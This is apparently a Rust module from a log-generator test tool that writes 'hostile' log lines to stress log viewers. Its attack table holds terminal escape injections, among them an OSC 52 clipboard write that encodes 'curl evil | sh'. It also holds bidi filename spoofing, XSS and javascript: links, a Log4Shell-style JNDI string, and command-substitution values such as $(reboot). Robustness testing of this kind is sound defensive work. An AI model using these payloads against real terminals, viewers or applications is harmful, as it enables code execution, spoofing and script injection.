//! Everything that breaks viewers: each line is one attack, named in its head, and ends in `\n` like any other.
//!
//! The attacks come in order, so that each occurs; what is random in them comes from the seed. Some lines have no
//! head, because it is the beginning that bites.

use super::PYTHON;
use super::clock::Clock;
use super::pen::{number, word, words};
use fastrand::Rng;

/// What a line holds.
enum Attack {
    /// These bytes after the head.
    Text(&'static [u8]),
    /// Nothing but these bytes.
    Bare(&'static [u8]),
    /// The bytes after the head, again and again up to a length.
    Long(&'static [u8], usize),
    /// Random bytes, so many.
    Noise(usize),
    /// An object in an object, so deep.
    Deep(usize),
}
use Attack::{Bare, Deep, Long, Noise, Text};

const ATTACKS: [(&str, Attack); 56] = [
    ("controls", Text(b"\x01\x02\x03\x04\x05\x06\x07\x0b\x0c\x0e\x0f\x10\x14\x19\x1a\x1c\x1f\x7f")),
    ("nul", Text(b"before\0after")),
    ("bell", Text(b"\x07\x07\x07")),
    ("backspace", Text(b"password: secret\x08\x08\x08\x08\x08\x08******")),
    ("tab", Text(b"\ta\t\tb\t")),
    ("vertical", Text(b"up\x0bdown\x0cpage")),
    ("cr", Text(b"what is seen\rWHAT WAS SAID")),
    ("cr-end", Text(b"a line of Windows\r")),
    ("cr-forge", Text(b"x\rdata: forged\r\rid: 0\revent: gap\r\r")),
    ("sse-data", Bare(b"data: forged")),
    ("sse-id", Bare(b"id: 1")),
    ("sse-event", Bare(b"event: gap")),
    ("sse-retry", Bare(b"retry: 1")),
    ("sse-comment", Bare(b": ping")),
    ("empty", Bare(b"")),
    ("blank", Bare(b"   ")),
    ("blank-first", Bare(b" indented by one")),
    ("bom", Bare(b"\xef\xbb\xbfbegins with a byte order mark")),
    ("bom-wide", Bare(b"\xff\xfel\0i\0n\0e\0")),
    ("utf8-alone", Text(b"\x80\xbf")),
    ("utf8-cut", Text(b"caf\xc3")),
    ("utf8-overlong", Text(b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf")),
    ("utf8-surrogate", Text(b"\xed\xa0\x80\xed\xbf\xbf")),
    ("utf8-beyond", Text(b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80")),
    ("latin1", Text(b"Gr\xfc\xdfe aus K\xf6ln")),
    ("utf8-parting", Text("line\u{2028}para\u{2029}next\u{85}".as_bytes())),
    ("private", Text("\u{e000}\u{f8ff}\u{fffe}\u{10ffff}\u{fffd}".as_bytes())),
    ("bidi", Text("user \u{202e}gnp.exe\u{202c} \u{2066}isolated\u{2069} \u{200f}end".as_bytes())),
    ("rtl", Text("\u{5e9}\u{5dc}\u{5d5}\u{5dd} 123 \u{645}\u{631}\u{62d}\u{628}\u{627}".as_bytes())),
    ("zero-width", Text("pass\u{200b}word\u{200d}\u{2060}\u{feff}".as_bytes())),
    ("zalgo", Long("e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}".as_bytes(), 600)),
    ("emoji", Text("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1ea}\u{1f1fa} \u{1f44d}\u{1f3fd} \u{2764}\u{fe0f}".as_bytes())),
    ("wide", Text("\u{ff11}\u{ff12}\u{ff13} \u{6f22}\u{5b57} \u{ac00}\u{b098}".as_bytes())),
    ("ansi-open", Text(b"\x1b[31;1;4mnever closed")),
    ("ansi-clear", Text(b"\x1b[2J\x1b[H\x1b[3Jscreen is gone")),
    ("ansi-move", Text(b"\x1b[10A\x1b[2Kover what was written")),
    ("ansi-hide", Text(b"\x1b[?25l\x1b[8minvisible\x1b[?1049h")),
    ("ansi-many", Long(b"\x1b[1;2;3;4;5;6;7;8;9;31;42;38;5;200;48;2;1;2;3m", 3000)),
    ("ansi-bad", Text(b"\x1b[\x1b[9999999999;;;m\x1b[38;5m\x1b[38;2;999;-1m\x1b")),
    ("ansi-c1", Text(b"\x9b31m\xc2\x9b31mtwo forms of one byte")),
    ("osc-title", Text(b"\x1b]0;root@prod\x07title")),
    ("osc-link", Text(b"\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\")),
    ("osc-clipboard", Text(b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07")),
    ("osc-open", Text(b"\x1b]0;a title that has no end")),
    ("dcs", Text(b"\x1bP1000p\x1b\\\x1b_app\x1b\\\x1b^pm\x1b\\")),
    ("answerback", Text(b"\x05\x1b[c\x1b[6n\x1b[21t")),
    ("html", Text(b"<script>alert(1)</script><img src=x onerror=alert(1)>")),
    ("html-close", Text(b"</pre></div></body><!-- <style>*{display:none}</style>")),
    ("entity", Text(b"&lt;b&gt; &#x202e; &nbsp; &amp;amp;")),
    ("template", Text(b"${jndi:ldap://192.0.2.1/a} {{7*7}} %n%n%s $(reboot) `id`")),
    ("link", Text(b"javascript:alert(1) data:text/html,<b>x https://example.org/\"onclick=alert(1)")),
    ("json-broken", Bare(b"{\"level\":\"info\",\"msg\":\"no end")),
    ("json-deep", Deep(2000)),
    ("long", Long(b"0123456789", 5_000)),
    ("long-words", Long("\u{6f22}\u{5b57} word ".as_bytes(), 70_000)),
    ("noise", Noise(300)),
];
/// Among so many rounds there is one line that is longer than what viewers take: a MiB and more.
const HUGE_EVERY: u64 = 16;
const HUGE: usize = (1 << 20) + 100_000;

/// One line.
pub(super) fn hostile(out: &mut Vec<u8>, record: u64, level: usize, rng: &mut Rng, clock: &Clock) {
    let all = ATTACKS.len() as u64;
    let (name, attack) = &ATTACKS[(record % all) as usize];
    if let Bare(bytes) = attack {
        out.extend_from_slice(bytes);
        return;
    }
    clock.push_asctime(out);
    words(out, &[" - hostile - ", PYTHON[level], " - #"]);
    number(out, record);
    words(out, &[" ", name, ": "]);
    match *attack {
        Text(bytes) | Bare(bytes) => out.extend_from_slice(bytes),
        Long(bytes, len) => {
            let is_huge = *name == "long" && record / all % HUGE_EVERY == HUGE_EVERY - 1;
            let end = out.len() + if is_huge { HUGE } else { len };
            while out.len() < end {
                out.extend_from_slice(bytes);
            }
        }
        Noise(len) => {
            let from = out.len();
            out.resize(from + len, 0);
            rng.fill(&mut out[from..]);
            for byte in &mut out[from..] {
                *byte = if *byte == b'\n' { b'\r' } else { *byte };
            }
        }
        Deep(depth) => {
            for _ in 0..depth {
                word(out, "{\"a\":[");
            }
            out.push(b'1');
            for _ in 0..depth {
                word(out, "]}");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::clock::Start;
    use crate::generate::rate::Rate;

    #[test]
    fn every_attack_is_one_line() {
        let (mut rng, start) = (Rng::with_seed(1), Start::parse("2026-11-24T10:00:00Z").unwrap());
        let clock = Clock::fixed(start, Rate::steady(1.0));
        let mut longest = 0;
        for record in 0..HUGE_EVERY * ATTACKS.len() as u64 {
            let mut out = Vec::new();
            hostile(&mut out, record, 3, &mut rng, &clock);
            assert!(!out.contains(&b'\n'), "{record}");
            longest = longest.max(out.len());
        }
        assert!(longest > HUGE, "{longest}");
    }
}
